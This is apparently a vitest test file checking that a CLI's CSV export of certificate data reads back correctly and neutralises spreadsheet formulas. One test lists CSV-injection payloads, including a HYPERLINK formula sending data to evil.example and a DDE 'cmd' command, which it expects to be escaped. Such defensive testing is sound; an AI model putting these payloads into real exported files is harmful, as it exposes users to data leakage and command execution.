/** The CSV, read back by a parser that is not ours: Python's own. */
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { certificateLines } from '../../../cli/output/csv.ts';
import { certificateDocument } from '../../../cli/output/documents.ts';
import { printable } from '../../../cli/output/words.ts';
import type { CertificateView } from '../../../shared/contract/observation.ts';
import { anyText, view } from '../values.ts';

const READ = `import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8')
print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`;

const written = (certificates: readonly CertificateView[]): string =>
  [...certificateLines(certificates)].map((line) => `${line}\n`).join('');

function readBack(certificates: readonly CertificateView[]): readonly (readonly string[])[] {
  const { stdout, stderr, error } = spawnSync('python3', ['-c', READ], { input: written(certificates) });
  if (error) throw error;
  expect(stderr.toString()).toBe('');
  return JSON.parse(stdout.toString());
}

describe('certificateLines', () => {
  test('are a header of the keys of -o json and a line a certificate', () => {
    const endpoints = [{ endpoint: 'shop.example.com:443', state: 'not-served' as const }];
    const bare = view({ names: ['shop.example.com', '*.shop.example.com'], endpoints });
    const { renewAt: _, issuer: __, endpoints: ___, ...unknown } = bare;
    const [header, first, second, ...more] = readBack([bare, unknown]);
    expect(header).toEqual(Object.keys(certificateDocument(bare)));
    expect(first).toEqual([
      ...['prod-eu/shop/shop-tls', 'prod-eu', 'shop', 'shop-tls', 'Certificate'],
      ...['shop.example.com *.shop.example.com', 'fleet/letsencrypt', '03ab'],
      ...['2026-08-26T09:00:00.000Z', '2026-11-26T09:00:00.000Z', '2026-10-25T09:00:00.000Z', 'overdue', 'nolapse'],
      ...['', '', '0', 'shop.example.com:443 not-served'],
    ]);
    expect([second?.[6], second?.[10], second?.[16]]).toEqual(['', '', '']);
    expect(more).toEqual([]);
  });

  test('end in CR LF, and nothing else breaks one', () => {
    const text = written([view({ managedBy: 'a\r\nb"c,d\u2028' })]);
    expect(text.match(/\r\n/g)).toHaveLength(2);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n\u2028]/);
  });

  test('hold no formula, whatever a cluster calls its things', () => {
    const cases = [
      ['=HYPERLINK("https://evil.example/?x="&A1)', `'=HYPERLINK("https://evil.example/?x="&A1)`],
      ['+1+1', "'+1+1"],
      ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
      ['@SUM(1)', "'@SUM(1)"],
      ['\t=1+1', '\\t=1+1'],
      ['\r=1+1', '\\r=1+1'],
      ['\n=1+1', '\\n=1+1'],
      ['＝1+1', "'＝1+1"],
      ['a=1', 'a=1'],
      ['"=1+1', '"=1+1'],
    ] as const;
    const [, ...rows] = readBack(cases.map(([managedBy]) => view({ managedBy, names: [managedBy, 'b'] })));
    expect(rows.map((row) => [row[12], row[5]])).toEqual(cases.map(([, cell]) => [cell, `${cell} b`]));
  });

  test('bring back what clusters may hold, none of it a formula', () => {
    const texts = fc.sample(anyText, { numRuns: 500, seed: 5 });
    const [, ...rows] = readBack(texts.map((managedBy) => view({ managedBy })));
    expect(rows.map((row) => row[12]?.replace(/^'(?=[=+\-@＝＋－＠])/u, ''))).toEqual(texts.map(printable));
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
  });
});
